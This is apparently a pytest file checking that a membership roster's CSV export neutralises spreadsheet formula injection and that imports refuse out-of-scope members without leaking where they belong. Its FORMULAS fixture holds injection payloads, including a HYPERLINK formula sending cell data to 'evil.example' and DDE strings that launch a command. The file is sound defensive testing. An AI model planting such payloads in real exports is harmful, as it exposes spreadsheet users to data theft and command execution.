"""The roster CSV against the security review: no formulas out, no membership leaked in."""

import csv
import io

import pytest

from newcourse.organisation import roster
from newcourse.organisation.models import Member

# Each starts with a character a spreadsheet reads as the start of a formula, or with quotes
# before one, which the export must also keep apart from a quote it added itself.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rCarried",
    "'=already quoted",
    "''+twice quoted",
]
REFUSAL = (
    "This email address cannot be used for a new member here; ask the member or the "
    "membership secretary of the wider body."
)


def import_text(body, text):
    return roster.members_import(actor="system:test", body=body, text=text)


def exported_rows(body):
    text = "".join(roster.members_export(body=body))
    return list(csv.reader(io.StringIO(text)))


def roster_values(body):
    return [
        [m.number, m.person.email, m.person.full_name, m.body.slug]
        for m in Member.objects.within(body).order_by("number").select_related("person", "body")
    ]


@pytest.fixture
def formula_members(tree, make_member):
    members = [
        make_member(tree["north"], email=f"formula{n}@example.org") for n in range(len(FORMULAS))
    ]
    for member, name in zip(members, FORMULAS, strict=True):
        # Set as stored, past `member_admit`'s trimming, as another form might store it.
        member.person.full_name = name
        member.person.save(update_fields=["full_name"])
    return [*members, make_member(tree["south"], name="Plain Name", email="=1+1@example.org")]


def test_export_prefixes_a_quote_to_every_formula_cell(tree, formula_members):
    _header, *rows = exported_rows(tree["region"])

    names = sorted(row[2] for row in rows)
    assert names == sorted(["'" + name for name in FORMULAS] + ["Plain Name"])
    assert [row[1] for row in rows if row[2] == "Plain Name"] == ["'=1+1@example.org"]
    assert [
        cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}
    ] == []


def test_export_leaves_ordinary_cells_alone(tree, make_member):
    member = make_member(tree["north"], name="Ana Pauker", email="ana@example.org")

    _header, row = exported_rows(tree["region"])

    assert row == [
        member.number,
        "ana@example.org",
        "Ana Pauker",
        "north",
        "2020-01-01",
        "active",
        "good",
    ]


def test_export_then_read_gives_back_the_original_values(tree, formula_members):
    text = "".join(roster.members_export(body=tree["region"]))

    rows, problems = roster.read_rows(text)

    assert problems == []
    assert [[r["number"], r["email"], r["full_name"], r["branch"]] for r in rows] == roster_values(
        tree["region"]
    )


def test_export_then_import_changes_nothing_with_formula_cells(tree, formula_members):
    text = "".join(roster.members_export(body=tree["region"]))

    report = import_text(tree["region"], text)

    assert (report.changed, report.unchanged) == (0, len(FORMULAS) + 1)


def test_import_removes_only_the_quote_the_export_added(tree):
    text = (
        "email,full_name,branch\n"
        "a@example.org,'=A1,north\n"
        "b@example.org,''-B,north\n"
        "c@example.org,'Tis Cathal,north\n"
        "d@example.org,O'Brien,north\n"
    )

    import_text(tree["region"], text)

    names = dict(Member.objects.values_list("person__email", "person__full_name"))
    assert names == {
        "a@example.org": "=A1",
        "b@example.org": "'-B",
        "c@example.org": "'Tis Cathal",
        "d@example.org": "O'Brien",
    }


@pytest.mark.parametrize("where", ["far", "other_section", "international"])
def test_import_refuses_member_outside_without_saying_where(tree, make_member, where):
    outsider = make_member(tree[where], name="Rosa Outsider", email="rosa@example.org")
    text = "email,full_name,branch\nrosa@example.org,Rosa Outsider,north\n"

    with pytest.raises(roster.ImportRefused) as refused:
        import_text(tree["region"], text)

    assert [(p.line, p.problem) for p in refused.value.problems] == [(2, REFUSAL)]
    assert str(refused.value.problems[0]) == f"line 2: {REFUSAL}"
    message = str(refused.value)
    for revealing in ["Far", "Other Section", "International", "Rosa", outsider.number]:
        assert revealing not in message
    outsider.refresh_from_db()
    assert outsider.body == tree[where]
    assert Member.objects.count() == 1
